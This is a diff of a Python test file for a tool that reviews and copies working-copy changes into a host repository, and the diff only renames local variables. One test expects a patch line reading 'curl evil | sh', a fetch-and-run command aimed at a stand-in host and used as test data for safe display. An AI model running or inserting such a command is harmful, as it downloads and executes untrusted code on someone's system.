@@ -37,8 +37,8 @@ def status(folder: Path) -> None:
 
 def brought(copy: Copy, *named: str) -> list[str]:
     chosen = choice.choose(weigh.items(copy.changes()), named, deletions=False)
-    found = [*chosen.writes, *chosen.deletions]
-    return list(bring.bring(str(copy.host), found).done)
+    items = [*chosen.writes, *chosen.deletions]
+    return list(bring.bring(str(copy.host), items).done)
 
 
 def test_a_repository_under_another_name_does_not_come_along(tmp_path: Path, host: Path) -> None:
@@ -61,17 +61,17 @@ def test_what_runs_is_shown_or_comes_by_name_only(tmp_path: Path, host: Path) ->
     (copy.inside / "picture.png").write_bytes(b"\x89PNG\0")
     (copy.inside / "tool").write_bytes(b"\x7fELF\0")
     (copy.inside / "tool").chmod(0o755)
-    found = {item.path: item for item in weigh.items(copy.changes())}
-    assert {path for path, item in found.items() if item.control} == {"run.sh", "tool"}
-    assert list(patch.lines(found["latin"]))[-1] == "+curl evil | sh # \udcff"
+    by_path = {item.path: item for item in weigh.items(copy.changes())}
+    assert {path for path, item in by_path.items() if item.control} == {"run.sh", "tool"}
+    assert list(patch.lines(by_path["latin"]))[-1] == "+curl evil | sh # \udcff"
     assert brought(copy) == ["latin", "picture.png"]
 
 
 def test_a_new_file_with_nothing_in_it_is_called_empty(tmp_path: Path, host: Path) -> None:
     copy = Copy(tmp_path, host)
     (copy.inside / "new").write_bytes(b"")
-    (found,) = weigh.items(copy.changes())
-    assert list(patch.lines(found))[2:] == ["@@ the file is empty @@"]
+    (item,) = weigh.items(copy.changes())
+    assert list(patch.lines(item))[2:] == ["@@ the file is empty @@"]
 
 
 def test_the_config_of_one_that_the_host_has_comes_by_name_only(tmp_path: Path, host: Path) -> None:
